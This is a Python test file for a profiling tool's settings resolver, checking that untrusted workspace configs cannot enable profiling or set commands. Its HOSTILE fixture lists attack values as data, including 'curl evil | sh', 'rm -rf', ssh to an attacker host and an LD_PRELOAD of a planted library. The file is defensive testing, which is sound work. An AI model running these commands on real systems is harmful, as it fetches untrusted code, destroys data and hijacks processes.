"""Profiling settings: validation, camelCase wire names, and the trust check."""

from __future__ import annotations

import pytest

from perflsp.profiling.errors import ProfilingError
from perflsp.profiling.settings import (
    ProfilingSettings,
    SettingsLayer,
    SettingsOrigin,
    layer_from_toml,
    require_enabled,
    resolve_profiling_settings,
)

USER = SettingsOrigin.USER
WS_FILE = SettingsOrigin.WORKSPACE_FILE
WS_SETTINGS = SettingsOrigin.WORKSPACE_SETTINGS

HOSTILE = {
    "enabled": True,
    "buildCommand": ["sh", "-c", "curl evil | sh"],
    "runCommand": ["rm", "-rf", "{exe}"],
    "launcher": ["ssh", "attacker-host"],
    "ncuPath": "/tmp/evil-ncu",
    "ncuArgs": ["--exec", "x"],
    "env": {"LD_PRELOAD": "/tmp/evil.so"},
    "args": ["--wipe"],
    "blockEnvVar": "PATH",
}


def test_defaults_are_off_and_lock_base_clocks():
    settings = ProfilingSettings()
    assert settings.enabled is False
    assert settings.clock_control == "base"
    assert settings.run_command == ["{exe}", "{args}"]
    assert settings.build_command == []


def test_camel_and_snake_keys_both_accepted():
    resolved = resolve_profiling_settings(
        [SettingsLayer(USER, {"buildCommand": ["nvcc", "-o", "{exe}", "{file}"], "run_timeout_s": 12})],
        workspace_trusted=False,
    )
    assert resolved.settings.build_command == ["nvcc", "-o", "{exe}", "{file}"]
    assert resolved.settings.run_timeout_s == 12
    assert resolved.ignored == ()


@pytest.mark.parametrize("origin", [WS_FILE, WS_SETTINGS])
def test_untrusted_workspace_cannot_enable_or_set_commands(origin):
    resolved = resolve_profiling_settings([SettingsLayer(origin, HOSTILE, ".perflsp.toml")], workspace_trusted=False)
    settings = resolved.settings
    assert settings == ProfilingSettings()  # nothing privileged took effect
    ignored_keys = {i.key for i in resolved.ignored}
    assert ignored_keys == {f"perflsp.profiling.{k}" for k in HOSTILE}
    assert all("trusted workspace" in i.reason for i in resolved.ignored)
    with pytest.raises(ProfilingError) as info:
        require_enabled(resolved)
    assert info.value.code == "not-enabled"
    assert ".perflsp.toml" in info.value.message and "not" in info.value.message


def test_untrusted_workspace_cannot_override_user_commands():
    user = SettingsLayer(USER, {"enabled": True, "buildCommand": ["nvcc", "-o", "{exe}", "{file}"]}, "user settings")
    workspace = SettingsLayer(WS_FILE, {"buildCommand": ["evil", "{file}"], "runTimeoutS": 30}, ".perflsp.toml")
    resolved = resolve_profiling_settings([user, workspace], workspace_trusted=False)
    assert resolved.settings.enabled
    assert resolved.settings.build_command == ["nvcc", "-o", "{exe}", "{file}"]
    assert resolved.settings.run_timeout_s == 30  # harmless knobs may come from the workspace
    assert resolved.origins["run_timeout_s"] is WS_FILE


def test_trusted_workspace_may_configure_everything():
    resolved = resolve_profiling_settings(
        [SettingsLayer(WS_FILE, {"enabled": True, "launcher": ["srun", "-p", "gpu", "--gres=gpu:1"]})],
        workspace_trusted=True,
    )
    assert require_enabled(resolved).launcher == ["srun", "-p", "gpu", "--gres=gpu:1"]


def test_invalid_values_are_ignored_with_a_reason_not_fatal():
    resolved = resolve_profiling_settings(
        [
            SettingsLayer(
                USER,
                {
                    "enabled": True,
                    "runCommand": ["{exe}", "--n={args}"],  # {args} must stand alone
                    "buildCommand": ["nvcc", "{source}"],  # unknown placeholder
                    "clockControl": "turbo",
                    "runTimeoutS": -1,
                    "colour": "blue",
                },
            )
        ],
        workspace_trusted=False,
    )
    reasons = {i.key: i.reason for i in resolved.ignored}
    assert "stand alone" in reasons["perflsp.profiling.runCommand"]
    assert "{source}" in reasons["perflsp.profiling.buildCommand"]
    assert "perflsp.profiling.clockControl" in reasons
    assert "perflsp.profiling.runTimeoutS" in reasons
    assert reasons["colour"] == "unknown setting"
    assert resolved.settings.enabled and resolved.settings.run_command == ["{exe}", "{args}"]


def test_shell_templates_with_placeholders_are_refused():
    resolved = resolve_profiling_settings(
        [SettingsLayer(USER, {"buildCommand": ["bash", "-c", "nvcc -o {exe} {file}"]})], workspace_trusted=False
    )
    assert resolved.settings.build_command == []
    assert "shell" in resolved.ignored[0].reason


def test_toml_layer(tmp_path):
    path = tmp_path / ".perflsp.toml"
    path.write_text("[profiling]\nenabled = true\nrunTimeoutS = 5\n[other]\nx = 1\n", encoding="utf-8")
    layer = layer_from_toml(path, WS_FILE)
    assert layer is not None and layer.values == {"enabled": True, "runTimeoutS": 5}
    resolved = resolve_profiling_settings([layer], workspace_trusted=False)
    assert not resolved.settings.enabled and resolved.settings.run_timeout_s == 5


def test_toml_errors_are_clear(tmp_path):
    assert layer_from_toml(tmp_path / "missing.toml", USER) is None
    bad = tmp_path / "bad.toml"
    bad.write_text("[profiling\nenabled = ", encoding="utf-8")
    with pytest.raises(ProfilingError) as info:
        layer_from_toml(bad, USER)
    assert info.value.code == "bad-settings" and info.value.message.startswith(f"{bad}:1:") \
        and "invalid TOML" in info.value.message
    (tmp_path / "table.toml").write_text('profiling = "on"\n', encoding="utf-8")
    with pytest.raises(ProfilingError, match="must be a table"):
        layer_from_toml(tmp_path / "table.toml", USER)
